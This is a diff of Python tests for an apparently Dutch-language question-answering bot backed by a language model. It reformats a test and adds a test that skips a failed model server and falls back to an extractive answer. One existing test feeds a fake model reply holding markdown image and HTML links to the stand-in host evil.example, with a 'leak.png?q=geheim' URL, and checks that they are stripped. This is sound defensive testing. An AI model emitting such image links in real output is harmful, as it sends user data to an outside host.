@@ -111,11 +111,13 @@ def test_citations_are_renumbered_in_order_of_first_appearance(base, fake):
 
 
 def test_markdown_image_html_and_outside_links_do_not_survive(base, fake):
-    fake.script = [Reply(
-        "Op 23 mei 2018 [1]. ![logo](https://evil.example/leak.png?q=geheim) "
-        "<img src=\"https://evil.example/x.png\"> Meer op [deze site](https://evil.example/) "
-        "of https://evil.example/page."
-    )]
+    fake.script = [
+        Reply(
+            "Op 23 mei 2018 [1]. ![logo](https://evil.example/leak.png?q=geheim) "
+            '<img src="https://evil.example/x.png"> Meer op [deze site](https://evil.example/) '
+            "of https://evil.example/page."
+        )
+    ]
     answer = with_model(base, fake.base_url).ask(BMS_FIRST)
     assert answer.found
     assert "evil.example" not in answer.answer
@@ -150,6 +152,21 @@ def test_a_failing_model_falls_back_to_the_extractive_answer(base, fake, failure
     assert answer.found and "23 mei 2018" in answer.answer
     assert answer.notice == phrase("llm_fallback", "nl")
     assert any("language model failed" in r.getMessage() for r in caplog.records)
+
+
+def test_a_model_that_failed_is_left_alone_for_a_while(base, fake):
+    """Guards against every buyer of a workshop waiting a full timeout for the same dead server."""
+    fake.script = [Reply(status=500), Reply(status=500), Reply("De eerste was op 23 mei 2018 [1].")]
+    bot = with_model(base, fake.base_url, llm_retry_after=3600)
+    first = bot.ask(BMS_FIRST)
+    asked = len(fake.requests)
+    second = bot.ask(BMS_FIRST)
+    assert first.notice == second.notice == phrase("llm_fallback", "nl")
+    assert len(fake.requests) == asked and asked >= 1  # the second question did not reach the server
+    assert "23 mei 2018" in second.answer
+    awake = with_model(base, fake.base_url, llm_retry_after=0)
+    awake.ask(BMS_FIRST)
+    assert len(fake.requests) > asked
 
 
 def test_a_refused_connection_falls_back(base):
